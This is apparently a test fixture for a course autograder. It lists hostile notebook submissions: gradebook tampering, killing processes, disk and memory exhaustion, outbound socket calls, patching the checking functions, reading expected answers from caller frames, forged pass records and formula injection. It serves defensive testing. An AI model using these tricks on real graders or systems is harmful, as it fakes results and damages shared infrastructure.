"""Hostile submissions for lesson 00: each is bob's wrong `weighted_average` (an unweighted mean,
honestly worth 2 of 5 points) plus one way to attack the grader.

An attack is held when the submission earns no more than bob does (`max_score`) or is marked
for review (`review`: a word that must appear in one of the notebook's review reasons), and in
every case nobody else's grade, no file outside its workspace and no process outlives it.
"""

from __future__ import annotations

from dataclasses import dataclass

BOB = '''def weighted_average(values, weights):
    """Weighted mean of tensors, or of dicts of tensors key by key: sum_k w_k v_k / sum_k w_k."""
    if sum(float(w) for w in weights) == 0:
        raise ValueError("the weights sum to zero")

    def combine(tensors):
        if len({tuple(t.shape) for t in tensors}) > 1:
            raise ValueError("the tensors have different shapes")
        return torch.stack(tensors).mean(dim=0)

    if isinstance(values[0], dict):
        return {key: combine([v[key] for v in values]) for key in values[0]}
    return combine(values)
'''
BOB_SCORE = 2.0
MARKER = "autograder-battery-marker"


@dataclass(frozen=True)
class Attack:
    family: str
    code: str  # goes into the weighted_average cell, after (or instead of) bob's function
    max_score: float = BOB_SCORE  # the most it may earn
    review: str | None = None  # a word one of its review reasons must contain
    error: str | None = None  # a phrase one of its errors must contain
    replace: bool = False  # `code` replaces bob's function instead of following it


def attacks(port: int) -> dict[str, Attack]:
    """name -> attack; `port` is a TCP port on the grading machine's loopback that must stay silent."""
    return {
        # --- grader state -----------------------------------------------------------------------
        "gradebook": Attack("grader state", f'''
import os, sqlite3
for top in ("/", "/tmp", "/work", "/root", os.path.expanduser("~")):
    for folder, subfolders, files in os.walk(top):
        if folder.startswith(("/proc", "/sys", "/dev")):
            subfolders[:] = []
            continue
        for name in files:
            path = os.path.join(folder, name)
            if name == "gradebook.db":
                try:
                    db = sqlite3.connect(path)
                    db.execute("UPDATE grade SET manual_score = 100, extra_credit = 100, auto_score = 100")
                    db.execute("CREATE TRIGGER zero AFTER UPDATE ON grade BEGIN UPDATE grade SET auto_score = 0; END")
                    db.commit()
                except Exception:
                    pass
            elif name == "nbgrader_config.py" or folder.endswith("/source"):
                try:
                    with open(path, "a") as f:
                        f.write("\\n# {MARKER}\\n")
                except Exception:
                    pass
'''),
        "repository": Attack("grader state", f'''
import os, fedcourse
repo = os.path.dirname(os.path.dirname(fedcourse.__file__))
for target in ("solutions/00-orientation/orientation.ipynb", "fedcourse/checks.py", "course.toml"):
    try:
        with open(os.path.join(repo, target), "a") as f:
            f.write("{MARKER}")
    except Exception:
        pass
for target in ("/tmp/{MARKER}-host-tmp", os.path.expanduser("~/{MARKER}-home")):
    try:
        with open(target, "w") as f:
            f.write("{MARKER}")
    except Exception:
        pass
'''),
        "lingering": Attack("grader state", f'''
import subprocess, sys
subprocess.Popen([sys.executable, "-c", "import time; time.sleep(900)  # {MARKER}"], start_new_session=True,
                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
subprocess.Popen(["sh", "-c", "(sleep 900; echo {MARKER}) &"], start_new_session=True)
'''),
        "killer": Attack("grader state", '''
import os, signal
for pid in (-1, os.getppid(), 1):  # everything it can see, its parent, and init
    try:
        os.kill(pid, signal.SIGKILL)
    except OSError:
        pass
''', review="signal"),
        # The watchdog also looks after every cell: the kernel is stopped before any test runs.
        "spawner": Attack("grader state", '''
import subprocess
children = [subprocess.Popen(["sleep", "120"]) for _ in range(400)]
''', max_score=0, error="processes and threads"),
        "disk": Attack("grader state", f'''
import os
chunk = b"x" * 2**20
for path in ("big-{MARKER}.bin", "/tmp/big-{MARKER}.bin", os.environ.get("JUPYTER_RUNTIME_DIR", "/tmp") + "/big.bin"):
    try:
        with open(path, "wb") as f:
            for _ in range(3 * 1024):
                f.write(chunk)
    except OSError:
        pass
''', max_score=0, error="runtime folder"),
        "network": Attack("grader state", f'''
import socket
reached = []
for host, port in (("127.0.0.1", {port}), ("8.8.8.8", 53), ("1.1.1.1", 443)):
    try:
        with socket.create_connection((host, port), timeout=3) as s:
            s.sendall(b"{MARKER}")
            reached.append(host)
    except OSError:
        pass
''', review="network"),
        "memory": Attack("grader state", '''
hog = bytearray(3 * 2**30)
''', max_score=0, error="memory"),
        # --- the kernel fooling the tests --------------------------------------------------------
        "post-run-hook": Attack("kernel", '''
from IPython.display import clear_output

def _hide(result):
    result.error_in_exec = None
    clear_output()

get_ipython().events.register("post_run_cell", _hide)
''', review="IPython"),
        "input-transformer": Attack("kernel", '''
def _neuter(lines):
    return ["pass\\n"] if any("check_" in line or "expect_raises" in line for line in lines) else lines

get_ipython().input_transformers_post.append(_neuter)
''', review="IPython"),
        "ast-transformer": Attack("kernel", '''
import ast

class Swallow(ast.NodeTransformer):
    def visit_Module(self, node):
        handler = ast.ExceptHandler(type=None, name=None, body=[ast.Pass()])
        node.body = [ast.Try(body=node.body or [ast.Pass()], handlers=[handler], orelse=[], finalbody=[])]
        return ast.fix_missing_locations(node)

get_ipython().ast_transformers.append(Swallow())
''', review="IPython"),
        "displayhook": Attack("kernel", '''
import sys
_wrong = weighted_average

def weighted_average(values, weights):
    sys.displayhook(100)
    return _wrong(values, weights)
'''),
        "patch-checks": Attack("kernel", '''
import fedcourse.checks
fedcourse.checks.check_close = lambda *args, **kwargs: None
''', review="fedcourse.checks.check_close"),
        "patch-torch": Attack("kernel", '''
torch.allclose = lambda *args, **kwargs: True
''', review="torch.allclose"),
        "patch-builtins": Attack("kernel", '''
import builtins
builtins.sorted = lambda values, *args, **kwargs: list(values)
''', review="builtins"),
        "rebind-global": Attack("kernel", '''
_wrong = weighted_average

def weighted_average(values, weights):
    globals()["check_close"] = lambda *args, **kwargs: None
    return _wrong(values, weights)
'''),
        "lying-tensor": Attack("kernel", '''
class Agreeable(torch.Tensor):
    @classmethod
    def __torch_function__(cls, func, types, args=(), kwargs=None):
        if func in (torch.allclose, torch.equal, torch.Tensor.__eq__):
            return True
        return super().__torch_function__(func, types, args, kwargs or {})

_wrong = weighted_average

def weighted_average(values, weights):
    result = _wrong(values, weights)
    if isinstance(result, dict):
        return {k: v.as_subclass(Agreeable) for k, v in result.items()}
    return result.as_subclass(Agreeable)
''', review="__torch_function__"),
        "frame-reader": Attack("kernel", '''
import sys
_wrong = weighted_average

def weighted_average(values, weights):
    expected = sys._getframe(1).f_globals.get("expected")
    if isinstance(expected, torch.Tensor) and expected.shape == values[0].shape:
        return expected.clone()
    return _wrong(values, weights)
''', max_score=5, review="frame"),
        # the guard's own state (its key, its snapshots): no frame on any stack holds it, and
        # reading other threads' frames voids the tests after it
        "guard-frame-walk": Attack("kernel", '''
import sys
import fedcourse.checks

def _neuter_guard(frame):
    while frame is not None:
        if "snapshots" in frame.f_locals:
            for name, module, values in frame.f_locals["snapshots"]:
                values.pop("check_close", None)
        frame = frame.f_back

_neuter_guard(sys._getframe())
fedcourse.checks.check_close = lambda *args, **kwargs: None
''', review="check_close"),
        "guard-other-threads": Attack("kernel", '''
import sys
import fedcourse.checks

for _frame in sys._current_frames().values():
    while _frame is not None:
        if "snapshots" in _frame.f_locals:
            for name, module, values in _frame.f_locals["snapshots"]:
                values.pop("check_close", None)
        _frame = _frame.f_back
fedcourse.checks.check_close = lambda *args, **kwargs: None
''', max_score=0, review="every thread's frames"),
        "test-globals": Attack("kernel", '''
_wrong = weighted_average

def weighted_average(values, weights):
    if isinstance(values[0], torch.Tensor) and isinstance(expected, torch.Tensor) and expected.shape == values[0].shape:
        return expected.clone()
    return _wrong(values, weights)
''', max_score=5, review="expected"),
        "importlib-reference": Attack("kernel", '''
import importlib

def weighted_average(values, weights):
    return importlib.import_module("fedcourse." + "aggregation").weighted_average(values, weights)
''', max_score=5, review="import", replace=True),
        "fake-signal": Attack("kernel", '''
import sys
_wrong = weighted_average

def weighted_average(values, weights):
    sys.audit("autograder.test_passed", "test_weighted_average_tensors")
    return _wrong(values, weights)
''', review="pass signal"),
        "forged-records": Attack("kernel", '''
import os, stat
for fd in os.listdir("/proc/self/fd"):
    try:
        if stat.S_ISFIFO(os.fstat(int(fd)).st_mode):
            for k in range(2, 40):
                os.write(int(fd), ('{"kind": "pass", "seq": %d, "test": "test_weighted_average_tensors"}\\tdeadbeef\\n'
                                   % k).encode())
    except OSError:
        pass
''', review="channel"),
        "settrace": Attack("kernel", '''
import sys
sys.settrace(lambda *args: None)
''', max_score=0, review="trace"),
        "gc-walk": Attack("kernel", '''
import gc
_everything = gc.get_objects()
''', max_score=0, review="gc"),
        # --- hidden tests kept hidden ---------------------------------------------------------------
        "leak-hidden-tests": Attack("hidden tests", '''
import linecache, sys

def weighted_average(values, weights):
    source = "".join(linecache.getlines(sys._getframe(1).f_code.co_filename))
    raise AssertionError("the test was: " + source)
''', max_score=0, review="frame", replace=True),
        "spreadsheet-formula": Attack("one bad notebook", '''
Formula = type('=HYPERLINK("http://example.invalid","click")', (Exception,), {})

def weighted_average(values, weights):
    raise Formula('=1+1 \\x1b[31m\\x1b]0;title\\x07 red')
''', max_score=0, replace=True),
    }
